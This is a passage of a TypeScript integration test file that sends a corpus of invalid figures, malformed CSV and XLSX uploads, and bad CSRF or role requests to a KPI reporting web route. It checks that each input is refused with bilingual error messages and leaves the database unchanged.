// A corpus of bad monthly figures (contract §2), sent the way a browser sends them: the entry
// form and the file upload of /figures/RTA/2021-01, called directly with a real Request, a
// session cookie and a CSRF token, against a real SQLite file synced from the real definitions.
// Every refused input must leave the whole database exactly as it was, and answer with message
// ids that both catalogues hold.
import { createHash } from "node:crypto";
import path from "node:path";
import { afterAll, beforeAll, describe, expect, it, vi } from "vitest";

const tmp = await vi.hoisted(async () => {
  const { mkdtempSync } = await import("node:fs");
  const { tmpdir } = await import("node:os");
  const { join } = await import("node:path");
  const dir = mkdtempSync(join(tmpdir(), "figures-corpus-test-"));
  const previousUploadMax = process.env.UPLOAD_MAX_BYTES;
  process.env.DATABASE_PATH = join(dir, "app.db");
  process.env.LOGIN_SLOWDOWN_MS = "0";
  // Small, so that "too large" needs only 3 KB.
  process.env.UPLOAD_MAX_BYTES = "2048";
  return { dir, previousUploadMax };
});

import { rmSync } from "node:fs";
import { createRemixStub } from "@remix-run/testing";
import ExcelJS from "exceljs";
import IntlMessageFormat from "intl-messageformat";
import { createElement } from "react";
import { renderToString } from "react-dom/server";
import { and, eq } from "drizzle-orm";
import * as s from "../../db/schema";
import { hashPasswordSync } from "~/auth/password.server";
import { createSession } from "~/auth/session.server";
import { loadDefinitions } from "~/definitions/load.server";
import { ar, en, type MessageId } from "~/i18n/messages";
import { lockPeriod, reopenPeriod, saveEntry } from "~/models/entry.server";
import { importFiguresCsv } from "~/models/figures.server";
import { syncDefinitions } from "~/models/sync.server";
import { createUser } from "~/models/users.server";
import EntryPage, { action as figuresAction, loader as figuresLoader } from "~/routes/figures.$entity.$period";
import { db } from "~/utils/db.server";
import { env } from "~/utils/env.server";
import { periodOf } from "~/figures/month";
import { WithIntl } from "../helpers/intl";
import { settle, type Outcome } from "../helpers/route";
import { csrfFor } from "../helpers/csrf";

const CSRF = "k".repeat(20) + "Fig_-".repeat(4) + "ure"; // 43 base64url characters
const OTHER_CSRF = "z".repeat(43);
const PERIOD = "2021-01";
const PAGE = `/figures/RTA/${PERIOD}`;
/** A moment in 2026 for what the tests write themselves; the route uses the real clock. */
const NOW = new Date("2026-03-15T08:00:00.000Z");
const CURRENT = periodOf(NOW);
const UPLOAD_LIMIT = 2048;
const HEADER = "entity,kpi,period,value,numerator,denominator,comment";

type Persona = "focalRta" | "focalDm" | "analyst" | "admin" | "anonymous";
const users = {} as Record<Exclude<Persona, "anonymous">, { id: number; email: string }>;

// ---------------------------------------------------------------------------------------------
// Calling the route

/** A fresh session for each request, so that no session is "touched" during a request. */
function sessionCookie(persona: Persona): string | null {
  if (persona === "anonymous") return null;
  return `sid=${createSession(db(), users[persona].id, new Date()).token}`;
}

/** "planted": the form carries the value of a `csrf` cookie someone else set, not the session's token. */
type CsrfMode = "ok" | "missing" | "mismatch" | "planted";

function headersFor(session: string | null): Record<string, string> {
  const cookie = [session, `csrf=${CSRF}`].filter(Boolean).join("; ");
  return cookie ? { Cookie: cookie } : {};
}

function tokenFor(csrf: CsrfMode, session: string | null): string | null {
  if (csrf === "missing") return null;
  if (csrf === "mismatch") return OTHER_CSRF;
  if (csrf === "planted") return CSRF;
  return csrfFor(headersFor(session).Cookie ?? "");
}

function formRequest(url: string, fields: Record<string, string>, session: string | null, csrf: CsrfMode = "ok") {
  const body = new URLSearchParams(fields);
  const token = tokenFor(csrf, session);
  if (token !== null) body.set("csrf", token);
  return new Request(`http://localhost${url}`, { method: "POST", body, headers: headersFor(session) });
}

interface UploadFile {
  name: string;
  type: string;
  bytes: Uint8Array<ArrayBuffer>;
}

function uploadRequest(url: string, file: UploadFile | null, session: string | null, csrf: CsrfMode = "ok") {
  const body = new FormData();
  const token = tokenFor(csrf, session);
  if (token !== null) body.set("csrf", token);
  if (file) body.set("file", new File([file.bytes], file.name, { type: file.type }));
  return new Request(`http://localhost${url}`, { method: "POST", body, headers: headersFor(session) });
}

function paramsOf(url: string) {
  const [, , entity, period] = url.split("/");
  return { entity, period };
}

const post = (request: Request, url: string) =>
  settle(() => figuresAction({ request, params: paramsOf(url), context: { clientIp: "127.0.0.1" } }));

// ---------------------------------------------------------------------------------------------
// The database

function fingerprint(): string {
  const sqlite = db().$client;
  const tables = sqlite
    .prepare("SELECT name FROM sqlite_master WHERE type = 'table' AND name NOT LIKE 'sqlite_%' AND name NOT LIKE '__drizzle%' ORDER BY name")
    .all() as Array<{ name: string }>;
  const hash = createHash("sha256");
  for (const { name } of tables) hash.update(name).update(JSON.stringify(sqlite.prepare(`SELECT * FROM "${name}" ORDER BY 1`).all()));
  return hash.digest("hex");
}

function figureAt(kpi: string, period = PERIOD, entity = "RTA") {
  return db()
    .select()
    .from(s.figures)
    .where(and(eq(s.figures.entityCode, entity), eq(s.figures.kpiCode, kpi), eq(s.figures.period, period)))
    .get();
}

const versionOf = (kpi: string, period = PERIOD) => {
  const f = figureAt(kpi, period);
  return f ? String(f.version) : "";
};

// ---------------------------------------------------------------------------------------------
// What the answer says

interface Problem {
  code: string;
  field: string;
  params: Record<string, string | number>;
}
interface UploadError {
  line: number;
  code?: string;
  problems: Problem[];
}
interface Answer {
  locked?: boolean;
  tooLarge?: boolean;
  problems?: Record<string, Problem[]>;
  conflicts?: Record<string, unknown>;
  uploadErrors?: UploadError[];
}

const problemId = (p: Problem) => (p.code === "justify" ? `problem.justify.${p.params.reason}` : `problem.${p.code}`);

/** Every message id the page would show for this answer. */
function messageIds(body: unknown): string[] {
  const answer = (body && typeof body === "object" ? body : {}) as Answer;
  const ids = new Set<string>();
  for (const list of Object.values(answer.problems ?? {})) for (const p of list) ids.add(problemId(p));
  for (const e of answer.uploadErrors ?? []) {
    if (e.code) ids.add(`file.${e.code}`);
    for (const p of e.problems) ids.add(problemId(p));
  }
  if (answer.conflicts && Object.keys(answer.conflicts).length > 0) ids.add("entry.conflict");
  if (answer.locked) ids.add("entry.locked");
  if (answer.tooLarge) ids.add("entry.tooLarge");
  return [...ids].sort();
}

const seenIds = new Set<string>();
/** Each problem met, with the values the page formats it with. */
const seenMessages: Array<{ id: string; params: Record<string, string | number> }> = [];

function messagesOf(body: Answer) {
  const out: Array<{ id: string; params: Record<string, string | number> }> = [];
  for (const list of Object.values(body.problems ?? {})) for (const p of list) out.push({ id: problemId(p), params: p.params });
  for (const e of body.uploadErrors ?? []) {
    if (e.code) out.push({ id: `file.${e.code}`, params: (e as { params?: Record<string, string | number> }).params ?? {} });
    for (const p of e.problems) out.push({ id: problemId(p), params: p.params });
  }
  return out;
}

// ---------------------------------------------------------------------------------------------
// Building inputs

interface Typed {
  value?: string;
  numerator?: string;
  denominator?: string;
  comment?: string;
  version?: string;
}

/** The form fields of one KPI, as the entry form names them. */
function kpi(code: string, typed: Typed): Record<string, string> {
  const fields: Record<string, string> = { [`version.${code}`]: typed.version ?? "" };
  for (const name of ["value", "numerator", "denominator", "comment"] as const) {
    if (typed[name] !== undefined) fields[`${name}.${code}`] = typed[name]!;
  }
  return fields;
}

const save = (...kpis: Array<Record<string, string>>) => Object.assign({ intent: "save" }, ...kpis) as Record<string, string>;
const submit = (...kpis: Array<Record<string, string>>) => Object.assign({ intent: "submit" }, ...kpis) as Record<string, string>;

const utf8 = (text: string) => new TextEncoder().encode(text);
const csv = (...rows: string[]): UploadFile => ({ name: "figures.csv", type: "text/csv", bytes: utf8([HEADER, ...rows].join("\n") + "\n") });
const csvText = (text: string): UploadFile => ({ name: "figures.csv", type: "text/csv", bytes: utf8(text) });

async function xlsxWithFormula(): Promise<UploadFile> {
  const workbook = new ExcelJS.Workbook();
  const sheet = workbook.addWorksheet("figures");
  sheet.addRow(["entity", "kpi", "period", "value", "numerator", "denominator", "comment"]);
  sheet.addRow(["RTA", "OPEN_DATASETS", PERIOD, null, null, null, "ok"]);
  sheet.getCell("D2").value = { formula: "2+3", result: 5 };
  const buffer = await workbook.xlsx.writeBuffer();
  return {
    name: "figures.xlsx",
    type: "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet",
    bytes: new Uint8Array(buffer as ArrayBuffer),
  };
}

/** Every KPI RTA reports, filled in correctly (with a comment, so no justification is asked). */
const wholeMonth: Record<string, Typed> = {
  SMART_ADOPTION: { numerator: "960", denominator: "1000" },
  HAPPINESS_METER_DEPLOYED: { value: "1" },
  HAPPINESS_SCORE: { numerator: "920", denominator: "1000" },
  SERVICE_REQUEST_DAYS: { value: "4" },
  EPAYMENT_SHARE: { numerator: "800", denominator: "1000" },
  MPAYMENT_SHARE: { numerator: "300", denominator: "1000" },
  GIN_CONNECTED: { value: "1" },
  GOV_CLOUD_HOSTING: { numerator: "700", denominator: "1000" },
  OPEN_DATASETS: { value: "12" },
};

function monthWithout(missing: string): Record<string, string> {
  return submit(
    ...Object.entries(wholeMonth).map(([code, typed]) =>
      kpi(code, code === missing ? { value: "" } : { ...typed, comment: "checked against the source system" }),
    ),
  );
}

// ---------------------------------------------------------------------------------------------
// The corpus

interface Case {
  name: string;
  /** Who sends it; RTA's focal point unless stated. */
  as?: Persona;
  url?: string;
  csrf?: CsrfMode;
  /** A form post… */
  form?: Record<string, string>;
  /** …or a multipart upload (null: a multipart post without a file). */
  upload?: UploadFile | null | (() => Promise<UploadFile>);
  status: number;
  /** Every message id the answer carries (field and file problems, lock, conflict, size). */
  ids: MessageId[];
  /** The KPIs the field problems are filed under. */
  kpis?: string[];
  /** The lines the upload errors name. */
  lines?: number[];
  /** Where a redirect goes (302 only). */
  location?: RegExp;
  setup?: () => void;
  check?: (body: Answer) => void;
  teardown?: () => void;
}

const longComment = "x".repeat(2001);

// The upload limit is only raised for the cases whose file cannot be made smaller than 2 KB.
const withLimit = (bytes: number) => () => {
  env().UPLOAD_MAX_BYTES = bytes;
};
const restoreLimit = () => {
  env().UPLOAD_MAX_BYTES = UPLOAD_LIMIT;
};

const CASES: Case[] = [
  // -- field problems, through the form -------------------------------------------------------
  { name: 'a count typed as "abc"', form: save(kpi("OPEN_DATASETS", { value: "abc" })), status: 400, ids: ["problem.not-a-number"], kpis: ["OPEN_DATASETS"] },
  { name: 'an exponent "1e5"', form: save(kpi("OPEN_DATASETS", { value: "1e5" })), status: 400, ids: ["problem.not-a-number"], kpis: ["OPEN_DATASETS"] },
  { name: 'a decimal comma "12,5"', form: save(kpi("SERVICE_REQUEST_DAYS", { value: "12,5" })), status: 400, ids: ["problem.not-a-number"], kpis: ["SERVICE_REQUEST_DAYS"] },
  { name: 'hexadecimal "0x1F"', form: save(kpi("OPEN_DATASETS", { value: "0x1F" })), status: 400, ids: ["problem.not-a-number"], kpis: ["OPEN_DATASETS"] },
  { name: '"Infinity"', form: save(kpi("SERVICE_REQUEST_DAYS", { value: "Infinity" })), status: 400, ids: ["problem.not-a-number"], kpis: ["SERVICE_REQUEST_DAYS"] },
  { name: "a 400-digit number (not finite as a double)", form: save(kpi("OPEN_DATASETS", { value: "9".repeat(400) })), status: 400, ids: ["problem.not-a-number"], kpis: ["OPEN_DATASETS"] },
  { name: "a negative count", form: save(kpi("OPEN_DATASETS", { value: "-3" })), status: 400, ids: ["problem.negative"], kpis: ["OPEN_DATASETS"] },
  { name: "a fractional count", form: save(kpi("OPEN_DATASETS", { value: "2.5" })), status: 400, ids: ["problem.not-whole"], kpis: ["OPEN_DATASETS"] },
  { name: "a negative number of days", form: save(kpi("SERVICE_REQUEST_DAYS", { value: "-1" })), status: 400, ids: ["problem.negative"], kpis: ["SERVICE_REQUEST_DAYS"] },
  {
    name: "a numerator greater than the denominator",
    form: save(kpi("SMART_ADOPTION", { numerator: "1200", denominator: "1000" })),
    status: 400,
    ids: ["problem.numerator-above-denominator"],
    kpis: ["SMART_ADOPTION"],
    check: (body) => expect(body.problems!.SMART_ADOPTION[0]).toMatchObject({ field: "numerator", params: { numerator: 1200, denominator: 1000 } }),
  },
  { name: "a denominator of 0", form: save(kpi("SMART_ADOPTION", { numerator: "0", denominator: "0" })), status: 400, ids: ["problem.zero-denominator"], kpis: ["SMART_ADOPTION"] },
  {
    // No percent KPI is a single value in the definitions: 101% can only be typed as a ratio.
    name: "a percentage of 101 (as 101 ÷ 100 on a percent ratio KPI)",
    form: save(kpi("HAPPINESS_SCORE", { numerator: "101", denominator: "100" })),
    status: 400,
    ids: ["problem.numerator-above-denominator"],
    kpis: ["HAPPINESS_SCORE"],
  },
  { name: "a negative numerator", form: save(kpi("EPAYMENT_SHARE", { numerator: "-5", denominator: "100" })), status: 400, ids: ["problem.negative"], kpis: ["EPAYMENT_SHARE"] },
  { name: "a negative denominator", form: save(kpi("EPAYMENT_SHARE", { numerator: "5", denominator: "-100" })), status: 400, ids: ["problem.negative"], kpis: ["EPAYMENT_SHARE"] },
  { name: 'a yes-no KPI answered "maybe"', form: save(kpi("GIN_CONNECTED", { value: "maybe" })), status: 400, ids: ["problem.bad-yes-no"], kpis: ["GIN_CONNECTED"] },
  { name: 'a yes-no KPI answered "2"', form: save(kpi("HAPPINESS_METER_DEPLOYED", { value: "2" })), status: 400, ids: ["problem.bad-yes-no"], kpis: ["HAPPINESS_METER_DEPLOYED"] },
  { name: "a value on a ratio KPI", form: save(kpi("SMART_ADOPTION", { value: "93" })), status: 400, ids: ["problem.value-on-ratio"], kpis: ["SMART_ADOPTION"] },
  {
    name: "a value beside a numerator and denominator on a ratio KPI",
    form: save(kpi("SMART_ADOPTION", { value: "93", numerator: "930", denominator: "1000" })),
    status: 400,
    ids: ["problem.value-on-ratio"],
    kpis: ["SMART_ADOPTION"],
  },
  { name: "a numerator on a value KPI", form: save(kpi("OPEN_DATASETS", { numerator: "5" })), status: 400, ids: ["problem.ratio-on-value"], kpis: ["OPEN_DATASETS"] },
  {
    name: "an empty numerator with a denominator",
    form: save(kpi("SMART_ADOPTION", { numerator: "", denominator: "1000" })),
    status: 400,
    ids: ["problem.missing-value"],
    kpis: ["SMART_ADOPTION"],
    check: (body) => expect(body.problems!.SMART_ADOPTION.map((p) => p.field)).toEqual(["numerator"]),
  },
  {
    name: "a numerator without a denominator",
    form: save(kpi("GOV_CLOUD_HOSTING", { numerator: "50" })),
    status: 400,
    ids: ["problem.missing-value"],
    kpis: ["GOV_CLOUD_HOSTING"],
    check: (body) => expect(body.problems!.GOV_CLOUD_HOSTING.map((p) => p.field)).toEqual(["denominator"]),
  },
  {
    name: "a comment of 2001 characters",
    form: save(kpi("OPEN_DATASETS", { value: "5", comment: longComment })),
    status: 400,
    ids: ["problem.comment-too-long"],
    kpis: ["OPEN_DATASETS"],
    check: (body) => expect(body.problems!.OPEN_DATASETS[0]).toMatchObject({ field: "comment", params: { max: 2000 } }),
  },
  {
    name: "a submit with the KPI left empty",
    form: submit(kpi("OPEN_DATASETS", { value: "" })),
    status: 400,
    ids: ["problem.required-to-submit"],
    kpis: ["OPEN_DATASETS"],
  },
  {
    name: "a submit of the whole month with one KPI left empty (the others valid are not saved either)",
    form: monthWithout("OPEN_DATASETS"),
    status: 400,
    ids: ["problem.required-to-submit"],
    kpis: ["OPEN_DATASETS"],
  },
  {
    // 2020-12 holds 20 (inserted before the corpus): 30 is a 50% jump.
    name: "a submit that jumps more than 25% against last month, without a comment",
    form: submit(kpi("OPEN_DATASETS", { value: "30" })),
    status: 400,
    ids: ["problem.justify.jump"],
    kpis: ["OPEN_DATASETS"],
    check: (body) =>
      expect(body.problems!.OPEN_DATASETS).toEqual([{ code: "justify", field: "comment", params: { reason: "jump", share: 50, limit: 25 } }]),
  },
  {
    name: "a submit far below the target band, without a comment",
    form: submit(kpi("SMART_ADOPTION", { numerator: "10", denominator: "100" })),
    status: 400,
    ids: ["problem.justify.below-band"],
    kpis: ["SMART_ADOPTION"],
  },
  {
    // (A draft with good figures among the bad saves the good ones: tests/integration/entry-forgiving.test.ts.)
    name: "several bad KPIs in one post: every problem reported, nothing saved",
    form: save(kpi("OPEN_DATASETS", { value: "abc" }), kpi("SMART_ADOPTION", { numerator: "1200", denominator: "1000" })),
    status: 400,
    ids: ["problem.not-a-number", "problem.numerator-above-denominator"],
    kpis: ["OPEN_DATASETS", "SMART_ADOPTION"],
    check: (body) => expect((body as { values?: Record<string, unknown> }).values?.OPEN_DATASETS).toMatchObject({ value: "abc" }),
  },
  {
    name: "a month that has not ended (/figures/RTA/2030-01)",
    url: "/figures/RTA/2030-01",
    form: save(kpi("OPEN_DATASETS", { value: "5" })),
    status: 400,
    ids: ["problem.future-period"],
    kpis: ["OPEN_DATASETS"],
  },

  {
    // The form never offers it; a crafted post is ignored, and nothing of it is written.
    name: "a figure for a KPI RTA does not report (DUBAI_NOW_SERVICES) is ignored",
    form: save(kpi("DUBAI_NOW_SERVICES", { value: "5" })),
    status: 302,
    location: /\?saved=0$/,
    ids: [],
  },

  // -- who and where ---------------------------------------------------------------------------
  { name: "a figure for another entity (/figures/DEWA/2021-01)", url: "/figures/DEWA/2021-01", form: save(kpi("OPEN_DATASETS", { value: "5" })), status: 403, ids: [] },
  {
    name: "a locked month (form save)",
    setup: () => {
      expect(lockPeriod(db(), PERIOD, users.admin.email, NOW)).toBe(true);
    },
    form: save(kpi("OPEN_DATASETS", { value: "5" })),
    status: 423,
    ids: ["entry.locked"],
    check: () => {
      // The office's own CSV import is refused for a locked month as well.
      const imported = importFiguresCsv(db(), `${HEADER}\nRTA,OPEN_DATASETS,${PERIOD},5,,,\n`, { actor: users.admin.email, now: NOW, currentPeriod: CURRENT });
      expect(imported.ok).toBe(false);
      if (!imported.ok) expect(imported.errors.flatMap((e) => e.problems.map((p) => p.code))).toEqual(["locked-period"]);
      seenIds.add("problem.locked-period");
    },
    teardown: () => {
      expect(reopenPeriod(db(), PERIOD, "corpus: the locked-month case is done", users.admin.email, NOW)).toBe(true);
    },
  },
  {
    name: "a locked month (upload)",
    setup: () => {
      expect(lockPeriod(db(), PERIOD, users.admin.email, NOW)).toBe(true);
    },
    upload: csv(`RTA,OPEN_DATASETS,${PERIOD},5,,,`),
    status: 400,
    ids: ["problem.locked-period"],
    lines: [2],
    teardown: () => {
      expect(reopenPeriod(db(), PERIOD, "corpus: the locked-month case is done", users.admin.email, NOW)).toBe(true);
    },
  },
  { name: "a malformed month in the address (2021-13)", url: "/figures/RTA/2021-13", form: save(kpi("OPEN_DATASETS", { value: "5" })), status: 400, ids: [] },
  { name: "a malformed month in the address (2021-1)", url: "/figures/RTA/2021-1", form: save(kpi("OPEN_DATASETS", { value: "5" })), status: 400, ids: [] },
  { name: "a malformed month in the address (Jan-2021)", url: "/figures/RTA/Jan-2021", form: save(kpi("OPEN_DATASETS", { value: "5" })), status: 400, ids: [] },
  { name: "no CSRF token in the form", csrf: "missing", form: save(kpi("OPEN_DATASETS", { value: "5" })), status: 403, ids: [] },
  { name: "a CSRF token that does not match the cookie", csrf: "mismatch", form: save(kpi("OPEN_DATASETS", { value: "5" })), status: 403, ids: [] },
  { name: "a csrf cookie planted by someone else, copied into the form (not the session's token)", csrf: "planted", form: save(kpi("OPEN_DATASETS", { value: "5" })), status: 403, ids: [] },
  { name: "an analyst posting the form", as: "analyst", form: save(kpi("OPEN_DATASETS", { value: "5" })), status: 403, ids: [] },
  { name: "DM's focal point posting RTA's form", as: "focalDm", form: save(kpi("OPEN_DATASETS", { value: "5" })), status: 403, ids: [] },
  { name: "an administrator posting the form", as: "admin", form: save(kpi("OPEN_DATASETS", { value: "5" })), status: 403, ids: [] },
  { name: "an anonymous post: sent to sign in", as: "anonymous", form: save(kpi("OPEN_DATASETS", { value: "5" })), status: 302, location: /^\/login/, ids: [] },

  // -- uploads ---------------------------------------------------------------------------------
  { name: "an empty file", upload: { name: "figures.csv", type: "text/csv", bytes: new Uint8Array(0) }, status: 400, ids: ["file.empty"] },
  { name: "a multipart post without a file", upload: null, status: 400, ids: ["file.empty"] },
  {
    name: "a .pdf",
    upload: { name: "figures.pdf", type: "application/pdf", bytes: utf8("%PDF-1.4\n1 0 obj << >> endobj\n%%EOF\n") },
    status: 400,
    ids: ["file.bad-file-type"],
  },
  {
    name: "a CSV that is not UTF-8 (Windows-1252)",
    upload: { name: "figures.csv", type: "text/csv", bytes: new Uint8Array([...utf8(`${HEADER}\nRTA,OPEN_DATASETS,${PERIOD},5,,,caf`), 0xe9, 0x0a]) },
    status: 400,
    ids: ["file.not-utf8"],
  },
  { name: "a CSV with a row for DEWA", upload: csv(`DEWA,OPEN_DATASETS,${PERIOD},5,,,`), status: 400, ids: ["file.other-entity"], lines: [2] },
  {
    name: "a CSV with an unknown column",
    upload: csvText(`${HEADER},source\nRTA,OPEN_DATASETS,${PERIOD},5,,,,manual\n`),
    status: 400,
    ids: ["file.unknown-column"],
    lines: [1],
  },
  { name: "a CSV without the period column", upload: csvText(`entity,kpi,value\nRTA,OPEN_DATASETS,5\n`), status: 400, ids: ["file.missing-column"], lines: [1] },
  { name: "a CSV with a column twice", upload: csvText(`entity,kpi,period,value,value\nRTA,OPEN_DATASETS,${PERIOD},5,6\n`), status: 400, ids: ["file.repeated-column"], lines: [1] },
  { name: "a CSV with a header only", upload: csvText(`${HEADER}\n`), status: 400, ids: ["file.header-only"] },
  { name: "a CSV row with too few fields", upload: csv(`RTA,OPEN_DATASETS,${PERIOD},5`), status: 400, ids: ["file.field-count"], lines: [2] },
  { name: "a CSV with an unterminated quote", upload: csv(`RTA,OPEN_DATASETS,${PERIOD},5,,,"never closed`), status: 400, ids: ["file.unreadable"] },
  {
    name: "a CSV with the same row twice",
    upload: csv(`RTA,OPEN_DATASETS,${PERIOD},5,,,`, `RTA,OPEN_DATASETS,${PERIOD},6,,,`),
    status: 400,
    ids: ["file.duplicate"],
    lines: [3],
    check: (body) => expect(body.uploadErrors![0]).toMatchObject({ params: { first: 2 } }),
  },
  {
    name: "a CSV with a good row on line 2 and a bad number on line 3",
    upload: csv(`RTA,OPEN_DATASETS,${PERIOD},5,,,`, `RTA,SERVICE_REQUEST_DAYS,${PERIOD},four,,,`),
    status: 400,
    ids: ["problem.not-a-number"],
    lines: [3],
  },
  { name: "a CSV row for a KPI that does not exist", upload: csv(`RTA,NO_SUCH_KPI,${PERIOD},5,,,`), status: 400, ids: ["problem.unknown-kpi"], lines: [2] },
  { name: "a CSV row for a KPI RTA does not report", upload: csv(`RTA,DUBAI_NOW_SERVICES,${PERIOD},5,,,`), status: 400, ids: ["problem.not-a-reporter"], lines: [2] },
  { name: "a CSV row with a malformed month", upload: csv(`RTA,OPEN_DATASETS,2021-1,5,,,`), status: 400, ids: ["problem.bad-period"], lines: [2] },
  { name: "a CSV row for a month that has not ended", upload: csv(`RTA,OPEN_DATASETS,2030-01,5,,,`), status: 400, ids: ["problem.future-period"], lines: [2] },
  { name: 'a CSV yes-no answered "maybe"', upload: csv(`RTA,GIN_CONNECTED,${PERIOD},maybe,,,`), status: 400, ids: ["problem.bad-yes-no"], lines: [2] },
  { name: "a CSV with a value on a ratio KPI", upload: csv(`RTA,SMART_ADOPTION,${PERIOD},93,,,`), status: 400, ids: ["problem.value-on-ratio"], lines: [2] },
  {
    name: "an XLSX with a formula cell",
    setup: withLimit(1_048_576),
    upload: xlsxWithFormula,
    status: 400,
    ids: ["file.formula"],
    lines: [2],
    teardown: restoreLimit,
  },
  {
    name: "a file named .xlsx that is not a workbook",
    upload: { name: "figures.xlsx", type: "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet", bytes: utf8("this is not a zip file") },
    status: 400,
    ids: ["file.unreadable-workbook"],
  },
  {
    name: "a 3 KB file over UPLOAD_MAX_BYTES (2 KB)",
    upload: csv(...Array.from({ length: 100 }, (_, i) => `RTA,OPEN_DATASETS,${PERIOD},${i},,,`)),
    status: 413,
    ids: ["entry.tooLarge"],
    check: (body) => expect(body).toEqual({ tooLarge: true }),
  },
  {
    name: "a CSV whose comment alone is larger than the upload limit",
    upload: csv(`RTA,OPEN_DATASETS,${PERIOD},5,,,"${"y".repeat(10_000)}"`),
    status: 413,
    ids: ["entry.tooLarge"],
  },
  {
    // 2001 characters do not fit in 2 KB with the header: the limit is raised for this case only.
    name: "a CSV with a comment of 2001 characters",
    setup: withLimit(1_048_576),
    upload: csv(`RTA,OPEN_DATASETS,${PERIOD},5,,,"${longComment}"`),
    status: 400,
    ids: ["problem.comment-too-long"],
    lines: [2],
    teardown: restoreLimit,
  },
  {
    name: "an upload over a submitted figure",
    upload: csv(`RTA,SMART_ADOPTION,2020-11,,900,1000,`),
    status: 400,
    ids: ["problem.awaiting-review"],
    // Contract §2: every bad row is reported with its line number.
    lines: [2],
  },
  {
    name: "an upload over an approved figure",
    upload: csv(`RTA,OPEN_DATASETS,${PERIOD},5,,,`, `RTA,OPEN_DATASETS,2020-12,21,,,`),
    status: 400,
    ids: ["problem.already-approved"],
    lines: [3],
  },
  { name: "an upload without a CSRF token", csrf: "missing", upload: csv(`RTA,OPEN_DATASETS,${PERIOD},5,,,`), status: 403, ids: [] },
  { name: "an upload by an analyst", as: "analyst", upload: csv(`RTA,OPEN_DATASETS,${PERIOD},5,,,`), status: 403, ids: [] },
  { name: "an upload by DM's focal point", as: "focalDm", upload: csv(`RTA,OPEN_DATASETS,${PERIOD},5,,,`), status: 403, ids: [] },
];

// ---------------------------------------------------------------------------------------------

beforeAll(() => {
  const definitions = loadDefinitions(path.resolve("kpi-definitions"));
  if (!definitions.ok) throw new Error(JSON.stringify(definitions.errors));
  syncDefinitions(db(), definitions.definitions, NOW.toISOString());
  const passwordHash = hashPasswordSync("a-long-password");
  const make = (email: string, role: s.Role, entityCode: string | null) => {
    const u = createUser(db(), { email, name: email, role, entityCode, passwordHash }, "test", NOW);
    return { id: u.id, email: u.email };
  };
  users.focalRta = make("focal.rta@corpus.example", "focal-point", "RTA");
  users.focalDm = make("focal.dm@corpus.example", "focal-point", "DM");
  users.analyst = make("analyst@corpus.example", "analyst", null);
  users.admin = make("admin@corpus.example", "admin", null);

  // Last month's figure, which the jump case measures against (imported figures are approved).
  const imported = importFiguresCsv(db(), `${HEADER}\nRTA,OPEN_DATASETS,2020-12,20,,,\n`, { actor: users.admin.email, now: NOW, currentPeriod: CURRENT });
  expect(imported).toEqual({ ok: true, imported: 1 });
  // A figure awaiting review, which an upload may not overwrite.
  const submitted = saveEntry(db(), {
    entity: "RTA",
    period: "2020-11",
    intent: "submit",
    items: [{ kpi: "SMART_ADOPTION", numerator: "960", denominator: "1000", comment: "ready", version: "" }],
    actor: users.focalRta.email,
    now: NOW,
    currentPeriod: CURRENT,
    jumpShare: 0.25,
  });
  expect(submitted).toEqual({ ok: true, saved: 1, submitted: 1 });
});

afterAll(() => {
  db().$client.close();
  globalThis.__smartComplianceDb = undefined;
  if (tmp.previousUploadMax === undefined) delete process.env.UPLOAD_MAX_BYTES;
  else process.env.UPLOAD_MAX_BYTES = tmp.previousUploadMax;
  rmSync(tmp.dir, { recursive: true, force: true });
});

describe("the bad-input corpus of /figures/RTA/2021-01", () => {
  it("has at least 40 cases, each with a unique name", () => {
    expect(CASES.length).toBeGreaterThanOrEqual(40);
    expect(new Set(CASES.map((c) => c.name)).size).toBe(CASES.length);
  });

  it.each(CASES.map((c) => [c.name, c] as const))("%s", async (_name, c) => {
    const url = c.url ?? PAGE;
    c.setup?.();
    try {
      const session = sessionCookie(c.as ?? "focalRta");
      const before = fingerprint();
      let request: Request;
      if (c.form) request = formRequest(url, c.form, session, c.csrf);
      else {
        const file = typeof c.upload === "function" ? await c.upload() : (c.upload ?? null);
        request = uploadRequest(url, file, session, c.csrf);
      }
      const outcome = await post(request, url);

      expect(outcome.status).toBe(c.status);
      if (c.location) expect(outcome.location).toMatch(c.location);
      const body = (outcome.body ?? {}) as Answer;
      const ids = messageIds(body);
      expect(ids).toEqual([...c.ids].sort());
      for (const id of ids) seenIds.add(id);
      seenMessages.push(...messagesOf(body));
      if (c.kpis) expect(Object.keys(body.problems ?? {}).sort()).toEqual([...c.kpis].sort());
      if (c.lines) expect((body.uploadErrors ?? []).map((e) => e.line)).toEqual(c.lines);
      // A refused form comes back with what was typed, so nothing has to be typed again.
      // (A malformed address is refused before any form is read: there is nothing typed to return.)
      if (c.form && !c.url && (c.status === 400 || c.status === 409 || c.status === 423) && outcome.body && typeof outcome.body === "object") {
        expect((outcome.body as { values?: unknown }).values).toBeDefined();
      }
      c.check?.(body);
      expect(fingerprint(), "a refused input changed the database").toBe(before);
    } finally {
      c.teardown?.();
    }
  });

  it("every message id the corpus met exists in English and in Arabic", () => {
    expect(seenIds.size).toBeGreaterThan(20);
    for (const id of seenIds) {
      expect(en, id).toHaveProperty([id]);
      expect(ar, id).toHaveProperty([id]);
      expect((en as Record<string, string>)[id].trim(), id).not.toBe("");
      expect((ar as Record<string, string>)[id].trim(), id).not.toBe("");
    }
  });

  it("every problem met formats in both languages with the values the answer carries", () => {
    expect(seenMessages.length).toBeGreaterThan(20);
    for (const { id, params } of seenMessages) {
      for (const [locale, catalogue] of [["en", en], ["ar", ar]] as const) {
        const text = new IntlMessageFormat((catalogue as Record<string, string>)[id], locale).format(params) as string;
        expect(text, `${locale} ${id}`).not.toMatch(/[{}]/);
      }
    }
  });

  it("the English and Arabic texts of every problem, file and entry message take the same values", () => {
    const args = (text: string) => [...new Set([...text.matchAll(/\{(\w+)[,}]/g)].map((m) => m[1]))].sort();
    const ids = Object.keys(en).filter((id) => /^(problem|file|entry|review\.error)\./.test(id)) as MessageId[];
    expect(ids.length).toBeGreaterThan(50);
    for (const id of ids) {
      expect(ar[id]?.trim(), id).toBeTruthy();
      expect(args(ar[id]), id).toEqual(args(en[id]));
    }
  });

  it("every problem id the code can produce exists in English and in Arabic", async () => {
    const { PROBLEM_CODES } = await import("~/figures/rules");
    const { FILE_PROBLEM_CODES } = await import("~/figures/csv.server");
    const ids = [
      ...PROBLEM_CODES.map((c) => `problem.${c}`),
      ...FILE_PROBLEM_CODES.map((c) => `file.${c}`),
      "problem.justify.jump",
      "problem.justify.below-band",
